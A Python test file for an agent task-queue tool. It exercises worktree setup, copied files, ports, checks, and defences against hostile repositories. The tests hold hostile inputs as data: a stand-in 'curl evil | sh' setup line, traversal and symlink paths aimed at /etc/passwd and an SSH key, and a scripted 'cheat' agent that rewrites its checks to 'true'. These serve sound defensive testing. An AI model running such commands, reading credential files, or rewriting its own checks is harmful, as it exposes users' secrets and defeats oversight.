"""Worktrees ready to run: a repo's `.agentqueue.toml` (setup, teardown, copied files, port, checks) and Claude Code's
`.worktreeinclude`, end to end with real git, the real sandbox and `command` agents (shell scripts).

The setup and teardown commands append to files in a `signals` folder the sandbox lets runs write, so a test can
count how often they ran after the worktree is gone.
"""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest

from agentqueue.engine.ignored_files import copy_ignored
from agentqueue.engine.ports import Ports
from agentqueue.engine.ready import STATE_DIR
from agentqueue.services import Services
from agentqueue.services.repo_config import (
    Check, RepoConfigError, checks_for, declared_checks, parse, read_commit, read_worktree,
)

from .cli_helpers import let_agents_write, signals
from .git_fixtures import commit_file, git, git_env, make_repo  # noqa: F401  (git_env: fixture)
from .processes import wait_for
from .test_engine_lifecycle import checkout, engine_running, make_engine, run_until_final, show, status

pytestmark = pytest.mark.anyio


def sh(script: str) -> str:
    """A `command` agent that runs `script` with /bin/sh in its worktree (its prompt on stdin)."""
    return shlex.join(["/bin/sh", "-c", script])


@pytest.fixture
def svc(services: Services, git_env: Path) -> Services:
    """Project 'demo' with an `init` repo 'app'."""
    services.projects.create("Demo")
    services.repos.add("demo", "init", name="app")
    return services


def declare(repo: Path, toml: str | None = None, include: str | None = None, gitignore: str | None = None) -> None:
    """Commit the repo's declaration files on main (its checkout has main checked out)."""
    for name, text in ((".gitignore", gitignore), (".agentqueue.toml", toml), (".worktreeinclude", include)):
        if text is not None:
            commit_file(repo, name, text, f"add {name}")


# -- end to end -----------------------------------------------------------------------------------------
async def test_setup_runs_once_per_worktree_files_are_copied_and_teardown_runs_on_removal(
        svc: Services, tmp_path: Path) -> None:
    seen = signals(tmp_path)
    let_agents_write(svc, seen)
    repo = checkout(svc)
    commit_file(repo, "config.txt", "tracked\n")
    declare(repo, gitignore="*.env\nlocal/\n.count\n", include="# Claude Code's file\nlocal/settings.json\n",
            toml=f'''setup = "echo \\"$PWD\\" >> {seen}/setup.log && echo once >> .count"
teardown = "echo \\"$PWD $AGENTQUEUE_TASK_PORT\\" >> {seen}/teardown.log"
copy = ["app.env", "config.txt"]
port_env = "PORT"

[[checks]]
name = "port"
command = "test -n \\"$PORT\\" && echo \\"$PORT\\" >> {seen}/check.log"
''')
    (repo / "app.env").write_text("SECRET=1\n")  # ignored, in the person's checkout: copied
    (repo / "local").mkdir()
    (repo / "local" / "settings.json").write_text('{"a": 1}\n')
    (repo / "config.txt").write_text("the person's uncommitted edit\n")  # tracked: the worktree keeps the branch's
    svc.agents.create("worker", "command", command=sh(
        "cat > prompt.txt; cat .count > seen-count.txt; cat app.env local/settings.json > seen-copied.txt; "
        "cat config.txt > seen-config.txt; echo \"$AGENTQUEUE_TASK_PORT $PORT\" >> ports.txt; "
        "if [ ! -e tried.txt ]; then echo 1 > tried.txt; exit 1; fi"))  # the first run fails: a retry follows
    task = svc.tasks.create("demo", "Ready", "Use what setup made.", repo_id="app", max_retries=1)
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)

    assert status(svc, task.id) == "COMPLETED", svc.tasks.get(task.id).reason
    worktree = engine.workspaces.path_for("app", task.id)
    assert (seen / "setup.log").read_text().splitlines() == [str(worktree)]  # two runs, one worktree, one setup
    assert show(repo, "main", "seen-count.txt") == "once"
    assert show(repo, "main", "seen-copied.txt") == 'SECRET=1\n{"a": 1}'
    assert show(repo, "main", "seen-config.txt") == "tracked"  # the branch's file, not the person's edit
    assert show(repo, "main", "app.env") is None and show(repo, "main", "local/settings.json") is None
    first, second = [line.split() for line in show(repo, "main", "ports.txt").splitlines()]
    assert first[0] == first[1] and second[0] == second[1] and 20000 <= int(second[0]) < 21000
    assert (seen / "check.log").read_text().split() == [second[0]]  # the check ran with the run's port
    assert (seen / "teardown.log").read_text().split() == [str(worktree), second[0]]
    assert not worktree.exists() and not (svc.home / STATE_DIR / "app" / f"{task.id}.json").exists()
    assert engine.ports.of(task.id) is None

    prompt = show(repo, "main", "prompt.txt")
    assert prompt is not None
    assert "The setup command `echo" in prompt and "ran once when the worktree was made" in prompt
    assert "app.env, local/settings.json" in prompt and ".agentqueue.toml, .worktreeinclude on 'main'" in prompt
    assert f"$AGENTQUEUE_TASK_PORT and $PORT = {second[0]}" in prompt
    assert "these checks run in your worktree" in prompt and "(port)" in prompt
    task_log = engine.log_path(task.id).read_text()
    assert "[setup] $ echo" in task_log and "[setup] copied from" in task_log
    assert "config.txt" not in task_log.split("[setup] copied from")[1].splitlines()[0]  # tracked: never a candidate
    assert "[check port] $ test -n" in task_log and "[teardown] $ echo" in task_log


async def test_two_tasks_running_at_once_get_different_ports(svc: Services, tmp_path: Path) -> None:
    seen = signals(tmp_path)
    let_agents_write(svc, seen)
    for name in ("one", "two"):  # each holds its run until both have written their port
        svc.agents.create(name, "command", command=sh(
            f"echo \"$AGENTQUEUE_TASK_PORT\" > {seen}/port-$(basename \"$PWD\"); "
            f"for i in $(seq 100); do [ $(ls {seen} | grep -c port-) -ge 2 ] && break; sleep 0.1; done; "
            "echo done > \"out-$(basename \"$PWD\").txt\""))
    tasks = [svc.tasks.create("demo", f"T{i}", "Serve.", repo_id="app") for i in range(2)]
    engine = make_engine(svc)
    await run_until_final(svc, engine, *(t.id for t in tasks), timeout=60)
    assert {status(svc, t.id) for t in tasks} == {"COMPLETED"}
    ports = [(seen / f"port-{t.id}").read_text().strip() for t in tasks]
    assert len(set(ports)) == 2 and all(p.isdigit() for p in ports), ports
    assert all(engine.ports.of(t.id) is None for t in tasks)  # freed when the runs ended


async def test_a_bad_agentqueue_toml_fails_the_task_clearly_and_the_engine_goes_on(svc: Services) -> None:
    repo = checkout(svc)
    declare(repo, toml='setup = "npm ci"\ncopy = ".env"\n')  # copy must be a list
    svc.agents.create("worker", "command", command=sh("echo ran > ran.txt"))
    task = svc.tasks.create("demo", "Bad", "Anything.", repo_id="app", max_retries=3)
    engine = make_engine(svc)
    async with engine_running(engine):
        await wait_for(lambda: status(svc, task.id) == "BLOCKED", 30, "the task to be held")
        held = svc.tasks.get(task.id)
        assert "copy must be a list" in held.reason and "Fix it on 'main' of repo 'app'" in held.reason
        assert ".agentqueue.toml" in held.next_step and f"restart_task {task.id}" in held.next_step
        attempts, result = svc.tasks.results(task.id)
        assert attempts == 1 and result is not None and result.error_type == "repo_config"  # not retried
        assert "[setup] .agentqueue.toml: copy must be a list" in engine.log_path(task.id).read_text()
        assert show(repo, "main", "ran.txt") is None  # no agent ran

        declare(repo, toml='copy = [".env"]\n')  # fixed on main: the same engine runs the task now
        svc.tasks.restart(task.id)
        await wait_for(lambda: status(svc, task.id) == "COMPLETED", 30, "the fixed task to land")
    assert show(repo, "main", "ran.txt") == "ran"


async def test_a_failing_setup_fails_the_run_with_its_command_exit_code_and_output(svc: Services) -> None:
    repo = checkout(svc)
    declare(repo, toml='setup = "echo preparing; echo npm ERR! no such package >&2; exit 3"\n')
    svc.agents.create("worker", "command", command=sh("echo ran > ran.txt"))
    task = svc.tasks.create("demo", "Setup fails", "Anything.", repo_id="app", max_retries=1)
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)
    held = svc.tasks.get(task.id)
    assert held.status == "BLOCKED"
    attempts, result = svc.tasks.results(task.id)
    assert attempts == 2 and result is not None and result.error_type == "setup_failed"  # retried like any failure
    assert "`echo preparing; echo npm ERR! no such package >&2; exit 3`" in result.error_message
    assert "exited 3" in result.error_message and "npm ERR! no such package" in result.error_message
    assert "Setup failed" in held.reason
    assert engine.workspaces.path_for("app", task.id).is_dir()  # kept for a look, as a failed run's worktree is
    assert show(repo, "main", "ran.txt") is None


async def test_an_agent_cannot_change_the_checks_that_judge_it(svc: Services) -> None:
    repo = checkout(svc)
    declare(repo, toml='[[checks]]\nname = "tests"\ncommand = "grep -q good out.txt"\n')
    svc.agents.create("cheat", "command", command=sh(
        "echo bad > out.txt; printf '[[checks]]\\nname = \"tests\"\\ncommand = \"true\"\\n' > .agentqueue.toml"))
    task = svc.tasks.create("demo", "Cheat", "Anything.", repo_id="app", max_retries=0)
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)
    assert status(svc, task.id) == "BLOCKED"
    _, result = svc.tasks.results(task.id)
    assert result is not None and result.error_type == "verify_failed"
    assert "check 'tests' command `grep -q good out.txt` exited 1" in result.error_message
    assert show(repo, "main", "out.txt") is None


async def test_a_change_to_the_declaration_waits_for_approval(svc: Services) -> None:
    repo = checkout(svc)
    svc.agents.create("editor", "command", command=sh("echo '.env' > .worktreeinclude"))
    task = svc.tasks.create("demo", "Edit", "Anything.", repo_id="app")
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)
    held = svc.tasks.get(task.id)
    assert held.status == "AWAITING_APPROVAL" and ".worktreeinclude" in held.reason
    assert show(repo, "main", ".worktreeinclude") is None


async def test_a_task_without_the_files_hears_of_its_port_and_the_verify_command(svc: Services) -> None:
    svc.projects.edit("demo", verify_command="test -n \"$AGENTQUEUE_TASK_PORT\"")
    svc.agents.create("worker", "command", command=sh("cat > prompt.txt"))
    task = svc.tasks.create("demo", "Plain", "Anything.", repo_id="app")
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)
    assert status(svc, task.id) == "COMPLETED"
    prompt = show(checkout(svc), "main", "prompt.txt") or ""
    assert "Your port: $AGENTQUEUE_TASK_PORT = " in prompt and "setup command" not in prompt
    assert "it lands only if they pass: `test -n \"$AGENTQUEUE_TASK_PORT\"`." in prompt


# -- hostile repositories ----------------------------------------------------------------------------------
def test_copying_refuses_symlinks_paths_outside_the_repo_and_files_already_there(tmp_path: Path,
                                                                                 git_env: Path) -> None:
    secrets = tmp_path / "ssh"  # stands for ~/.ssh, which the sandbox hides from agents
    secrets.mkdir()
    (secrets / "id_rsa").write_text("PRIVATE KEY\n")
    outside = tmp_path / "bashrc"
    outside.write_text("the person's file\n")
    repo = make_repo(tmp_path / "repo", files={".gitignore": "*.env\nlinked/\nkeys\nlinks.env\n"})
    (repo / "ok.env").write_text("OK=1\n")
    (repo / "planted.env").write_text("NEW\n")
    os.symlink(secrets / "id_rsa", repo / "links.env")  # an ignored file that is a symlink out
    os.symlink(secrets, repo / "keys")  # an ignored folder that is a symlink out
    (repo / "linked").mkdir()
    os.symlink(secrets, repo / "linked" / "ssh")
    worktree = tmp_path / "wt"
    git(repo, "worktree", "add", "-q", "-b", "task", str(worktree))
    os.symlink(outside, worktree / "planted.env")  # an earlier run planted a symlink where a copy would go

    patterns = ["../../etc/passwd", "/etc/passwd", str(secrets / "id_rsa"), "*.env", "keys", "keys/*", "linked/**",
                "../ssh/id_rsa"]
    copied = copy_ignored(repo, worktree, patterns)
    assert copied.files == ["ok.env"]
    assert (worktree / "ok.env").read_text() == "OK=1\n"
    refused = dict(copied.refused)
    assert refused["links.env"] == "a symlink or unreadable" and refused["keys"] == "a symlink or unreadable"
    assert refused["planted.env"] == "the worktree has it already"
    assert outside.read_text() == "the person's file\n"  # never written through the planted symlink
    found = {str(p.relative_to(worktree)) for p in worktree.rglob("*") if ".git" not in p.parts}
    assert found == {".gitignore", "ok.env", "planted.env"}, found
    assert not any("PRIVATE KEY" in p.read_text(errors="replace") for p in worktree.rglob("*")
                   if p.is_file() and not p.is_symlink() and ".git" not in p.parts)


def test_a_file_the_task_branch_would_commit_is_not_left_copied(tmp_path: Path, git_env: Path) -> None:
    repo = make_repo(tmp_path / "repo", files={".gitignore": "*.env\n"})
    worktree = tmp_path / "wt"
    git(repo, "worktree", "add", "-q", "-b", "task", str(worktree))
    (repo / ".gitignore").write_text("*.env\nlocal.cfg\n")  # the person's uncommitted edit ignores it; main does not
    (repo / "local.cfg").write_text("token=1\n")
    (repo / "a.env").write_text("A=1\n")
    copied = copy_ignored(repo, worktree, ["local.cfg", "a.env"])
    assert copied.files == ["a.env"] and not (worktree / "local.cfg").exists()
    assert copied.refused == [("local.cfg", "the task branch does not ignore it, so it would be committed")]
    assert git(worktree, "status", "--porcelain") == ""


async def test_a_hostile_worktreeinclude_copies_nothing_from_outside(svc: Services, tmp_path: Path) -> None:
    secrets = tmp_path / "ssh"
    secrets.mkdir()
    (secrets / "id_rsa").write_text("PRIVATE KEY\n")
    repo = checkout(svc)
    os.symlink(secrets, repo / "keys")
    os.symlink(secrets / "id_rsa", repo / "key.env")
    declare(repo, gitignore="keys\n*.env\n", include=f"../../etc/passwd\n/etc/passwd\n{secrets}/id_rsa\nkeys\n"
                                                     "keys/id_rsa\nkey.env\n")
    svc.agents.create("looker", "command", command=sh("ls -a > listing.txt; cat > prompt.txt"))
    task = svc.tasks.create("demo", "Look", "Anything.", repo_id="app")
    engine = make_engine(svc)
    await run_until_final(svc, engine, task.id, timeout=60)
    assert status(svc, task.id) == "COMPLETED", svc.tasks.get(task.id).reason
    listing = (show(repo, "main", "listing.txt") or "").split()
    assert "keys" not in listing and "key.env" not in listing and "passwd" not in listing and "etc" not in listing
    assert "Copied in" not in (show(repo, "main", "prompt.txt") or "")
    task_log = engine.log_path(task.id).read_text()
    assert "[setup] not copied: key.env (a symlink or unreadable)" in task_log


# -- the declaration itself --------------------------------------------------------------------------------
def test_the_schema_says_what_is_wrong() -> None:
    cases = {
        "setpu = 'npm ci'": "unknown key 'setpu'; the keys are setup",
        "setup = ''": "setup must be a non-empty command string",
        "setup_timeout = 900": "setup_timeout must be a whole number of seconds from 1 to 600 (got 900)",
        "teardown_timeout = true": "teardown_timeout must be a whole number",
        "copy = ['../outside']": "copy entry '../outside' leaves the repository",
        "port_env = 'PATH'": "port_env must be an environment variable name",
        "port_env = '1X'": "port_env must be an environment variable name",
        "[[checks]]\nname = 'x'": "check 1 has no command",
        "[[checks]]\ncommand = 'make'\nwhen = 'always'": "check 1 has an unknown key 'when'",
        "checks = ['make test']": "checks must be tables",
        "setup = [": ".agentqueue.toml is not valid TOML",
    }
    for text, expected in cases.items():
        with pytest.raises(RepoConfigError) as error:
            parse(text)
        assert expected in str(error.value), (text, str(error.value))
    config = parse('setup = "npm ci"\nport_env = "PORT"\ncopy = [".env", "/config/*.json"]\n'
                   '[[checks]]\ncommand = "npm test"\n'
                   '[[checks]]\nname = "lint"\ncommand = "npm run lint"\ntimeout = 60\n')
    assert config.setup == "npm ci" and config.setup_timeout == 600 and config.teardown_timeout == 60
    assert config.checks == (Check("check 1", "npm test", 600), Check("lint", "npm run lint", 60))
    assert config.copy == (".env", "/config/*.json") and config.port_env == "PORT"


def test_checks_for_takes_the_default_branch_declaration_else_the_verify_command(svc: Services) -> None:
    repo_row, project = svc.repos.get("app"), svc.projects.get("demo")
    repo = Path(repo_row.checkout_path)
    assert checks_for(repo_row, project) == []
    project = svc.projects.edit("demo", verify_command="make test")
    assert checks_for(repo_row, project) == [Check("verify", "make test", 600)]
    declare(repo, toml='[[checks]]\nname = "unit"\ncommand = "pytest -q"\ntimeout = 120\n')
    assert checks_for(repo_row, project) == [Check("unit", "pytest -q", 120)]
    git(repo, "switch", "-q", "-c", "agent-branch")  # an edit on another branch changes nothing
    commit_file(repo, ".agentqueue.toml", '[[checks]]\ncommand = "true"\n')
    assert checks_for(repo_row, project) == [Check("unit", "pytest -q", 120)]
    assert declared_checks(parse(""), project) == [Check("verify", "make test", 600)]  # none declared
    commit_file(repo, ".agentqueue.toml", "setup = [\n")
    git(repo, "switch", "-q", "main")
    git(repo, "merge", "-q", "agent-branch")
    with pytest.raises(RepoConfigError, match="not valid TOML"):
        checks_for(repo_row, project)


def test_a_symlinked_declaration_is_refused_in_a_worktree_and_in_a_commit(tmp_path: Path, git_env: Path) -> None:
    (tmp_path / "elsewhere.toml").write_text('setup = "curl evil | sh"\n')
    repo = make_repo(tmp_path / "repo")
    os.symlink(tmp_path / "elsewhere.toml", repo / ".agentqueue.toml")
    git(repo, "add", ".agentqueue.toml")
    git(repo, "commit", "-q", "-m", "link")
    with pytest.raises(RepoConfigError, match="regular file"):
        read_worktree(repo)
    with pytest.raises(RepoConfigError, match="regular file"):
        read_commit(repo, "refs/heads/main")
    assert read_worktree(tmp_path) is None  # neither file: nothing to do


def test_ports_are_never_handed_twice_and_skip_busy_ones() -> None:
    import socket

    ports = Ports(first=20500, count=3)
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 20501))
        busy.listen()
        a, b = ports.acquire("a"), ports.acquire("b")
        assert {a, b} == {20500, 20502} and ports.acquire("a") == a
        with pytest.raises(RuntimeError, match="no free port"):
            ports.acquire("c")
    ports.release("a")
    assert ports.acquire("c", prefer=20502) != b  # b still holds its port
    with ports.holding("d") as d:
        assert d not in (b, ports.of("c"))
    assert ports.of("d") is None
    assert ports.of("b") == b


def test_the_merge_queue_gets_a_tasks_port_for_its_checks(svc: Services) -> None:
    engine = make_engine(svc)
    task = svc.tasks.create("demo", "Queued", "Anything.", repo_id="app")
    with engine.worktree_setup.task_env(task, port_env="PORT") as env:  # the run is over: a port held for the checks
        port = env["AGENTQUEUE_TASK_PORT"]
        assert env == {"AGENTQUEUE_TASK_PORT": port, "PORT": port} and engine.ports.of(task.id) == int(port)
    assert engine.ports.of(task.id) is None
    running = engine.ports.acquire(task.id)  # while its run holds one, the checks get the same
    with engine.worktree_setup.task_env(task) as env:
        assert env == {"AGENTQUEUE_TASK_PORT": str(running)}
    assert engine.ports.of(task.id) == running


async def test_a_restarted_daemon_neither_sets_a_worktree_up_again_nor_forgets_its_teardown(
        svc: Services, tmp_path: Path) -> None:
    seen = signals(tmp_path)
    let_agents_write(svc, seen)
    repo = checkout(svc)
    declare(repo, toml=f'setup = "echo \\"$AGENTQUEUE_TASK_PORT\\" >> {seen}/setup.log"\n'
                       f'teardown = "echo \\"$AGENTQUEUE_TASK_PORT\\" >> {seen}/teardown.log"\n')
    svc.agents.create("worker", "command", command=sh(
        "cat > prompt.txt; if [ ! -e tried.txt ]; then echo 1 > tried.txt; exit 1; fi"))
    task = svc.tasks.create("demo", "Twice", "Anything.", repo_id="app", max_retries=0)
    await run_until_final(svc, make_engine(svc), task.id, timeout=60)  # fails, BLOCKED, worktree kept
    assert status(svc, task.id) == "BLOCKED"
    svc.tasks.restart(task.id)
    await run_until_final(svc, make_engine(svc), task.id, timeout=60)  # a new engine, as after a restart
    assert status(svc, task.id) == "COMPLETED", svc.tasks.get(task.id).reason
    setup_port = (seen / "setup.log").read_text().split()
    assert len(setup_port) == 1  # set up once, by the first daemon
    assert (seen / "teardown.log").read_text().split() == setup_port  # the record's port, preferred again
    assert "ran once when the worktree was made" in (show(repo, "main", "prompt.txt") or "")
